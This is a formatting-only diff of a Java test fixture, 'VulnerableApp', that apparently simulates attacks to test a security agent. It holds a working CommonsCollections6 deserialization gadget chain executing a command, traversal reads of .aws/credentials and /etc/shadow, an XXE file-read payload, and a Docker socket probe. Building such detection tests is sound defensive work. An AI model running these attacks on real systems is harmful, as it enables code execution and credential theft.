@@ -39,7 +39,10 @@ import org.apache.commons.collections.map.LazyMap;
  * <p>Arguments: mode work-dir db-port ldap-port stop-file
  */
 public final class VulnerableApp {
-  /** log4j-core 2.14.1 from target/attack-libs, called reflectively: it is no compile dependency of this module. */
+  /**
+   * log4j-core 2.14.1 from target/attack-libs, called reflectively: it is no compile dependency of
+   * this module.
+   */
   private static final Log4j LOG = new Log4j();
 
   static final class Log4j {
@@ -48,9 +51,13 @@ public final class VulnerableApp {
 
     Log4j() {
       try {
-        logger = Class.forName("org.apache.logging.log4j.LogManager").getMethod("getLogger", String.class)
-            .invoke(null, VulnerableApp.class.getName());
-        error = Class.forName("org.apache.logging.log4j.Logger").getMethod("error", String.class, Object.class);
+        logger =
+            Class.forName("org.apache.logging.log4j.LogManager")
+                .getMethod("getLogger", String.class)
+                .invoke(null, VulnerableApp.class.getName());
+        error =
+            Class.forName("org.apache.logging.log4j.Logger")
+                .getMethod("error", String.class, Object.class);
       } catch (ReflectiveOperationException e) {
         throw new IllegalStateException("log4j-core 2.14.1 must be on the class path", e);
       }
@@ -80,7 +87,8 @@ public final class VulnerableApp {
       DockerSocket.run(work);
     }
     System.out.println("VulnerableApp " + mode + " done");
-    // A service keeps running: stay up until the test has seen what it needs (its stop file), so the
+    // A service keeps running: stay up until the test has seen what it needs (its stop file), so
+    // the
     // agent's sends never race the JVM's exit on a loaded machine.
     Path stop = Path.of(args[4]);
     for (int i = 0; i < 1200 && !Files.exists(stop); i++) {
@@ -99,8 +107,11 @@ public final class VulnerableApp {
     }
     Object cart = deserialize(serialize(new ArrayList<>(List.of("apple", "pear"))));
     if (!(cart instanceof ArrayList)) throw new IllegalStateException();
-    DocumentBuilderFactory.newInstance().newDocumentBuilder()
-        .parse(new ByteArrayInputStream("<order><item>apple</item></order>".getBytes(StandardCharsets.UTF_8)));
+    DocumentBuilderFactory.newInstance()
+        .newDocumentBuilder()
+        .parse(
+            new ByteArrayInputStream(
+                "<order><item>apple</item></order>".getBytes(StandardCharsets.UTF_8)));
     File upload = File.createTempFile("upload", ".tmp");
     Files.writeString(upload.toPath(), "data");
     upload.delete();
@@ -128,17 +139,31 @@ public final class VulnerableApp {
     }
   }
 
-  /** CommonsCollections6: HashSet → TiedMapEntry.hashCode → LazyMap → InvokerTransformer → Runtime.exec(touch). */
+  /**
+   * CommonsCollections6: HashSet → TiedMapEntry.hashCode → LazyMap → InvokerTransformer →
+   * Runtime.exec(touch).
+   */
   static final class Gadget {
     static void run(Path work) throws Exception {
       String marker = work.resolve("pwned-by-gadget").toString();
       Transformer[] chain = {
-          new ConstantTransformer(Runtime.class),
-          new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class<?>[0]}),
-          new InvokerTransformer("invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
-          new InvokerTransformer("exec", new Class<?>[] {String[].class}, new Object[] {new String[] {"/usr/bin/touch", marker}}),
-          new ConstantTransformer(1)};
-      ChainedTransformer chained = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
+        new ConstantTransformer(Runtime.class),
+        new InvokerTransformer(
+            "getMethod",
+            new Class<?>[] {String.class, Class[].class},
+            new Object[] {"getRuntime", new Class<?>[0]}),
+        new InvokerTransformer(
+            "invoke",
+            new Class<?>[] {Object.class, Object[].class},
+            new Object[] {null, new Object[0]}),
+        new InvokerTransformer(
+            "exec",
+            new Class<?>[] {String[].class},
+            new Object[] {new String[] {"/usr/bin/touch", marker}}),
+        new ConstantTransformer(1)
+      };
+      ChainedTransformer chained =
+          new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
       Map<Object, Object> lazy = LazyMap.decorate(new HashMap<>(), chained);
       TiedMapEntry entry = new TiedMapEntry(lazy, "k");
       HashSet<Object> set = new HashSet<>();
@@ -152,7 +177,10 @@ public final class VulnerableApp {
     }
   }
 
-  /** The file endpoint, given {@code app/data/../../home/.aws/credentials} under the temp work directory. */
+  /**
+   * The file endpoint, given {@code app/data/../../home/.aws/credentials} under the temp work
+   * directory.
+   */
   static final class Traversal {
     static void run(Path work) throws IOException {
       try (InputStream in = new FileInputStream(work + "/app/data/../../home/.aws/credentials")) {
@@ -178,7 +206,10 @@ public final class VulnerableApp {
     }
   }
 
-  /** {@code /etc/shadow} behind {@code /tmp/..} and {@code /./}; when not root the read fails, and the attempt is still an event. */
+  /**
+   * {@code /etc/shadow} behind {@code /tmp/..} and {@code /./}; when not root the read fails, and
+   * the attempt is still an event.
+   */
   static final class ShadowRead {
     static void run() {
       try (InputStream in = new FileInputStream("/tmp/../etc/./shadow")) {
@@ -192,19 +223,25 @@ public final class VulnerableApp {
   /** XML with an external entity pointing at a local file, parsed with the JDK's defaults. */
   static final class Xxe {
     static void run(Path work) throws Exception {
-      String xml = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file://" + work.resolve("app/secret.txt")
-          + "\">]><r>&x;</r>";
-      DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
+      String xml =
+          "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file://"
+              + work.resolve("app/secret.txt")
+              + "\">]><r>&x;</r>";
+      DocumentBuilderFactory.newInstance()
+          .newDocumentBuilder()
+          .parse(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
     }
   }
 
   /** The container runtime's API socket: the classic way out of a container. */
   static final class DockerSocket {
     static void run(Path work) throws IOException {
-      try (SocketChannel ch = SocketChannel.open(UnixDomainSocketAddress.of(work.resolve("run/docker.sock")))) {
-        ch.write(java.nio.ByteBuffer.wrap("GET /containers/json HTTP/1.0\r\n\r\n".getBytes(StandardCharsets.US_ASCII)));
+      try (SocketChannel ch =
+          SocketChannel.open(UnixDomainSocketAddress.of(work.resolve("run/docker.sock")))) {
+        ch.write(
+            java.nio.ByteBuffer.wrap(
+                "GET /containers/json HTTP/1.0\r\n\r\n".getBytes(StandardCharsets.US_ASCII)));
       }
     }
   }
-
 }
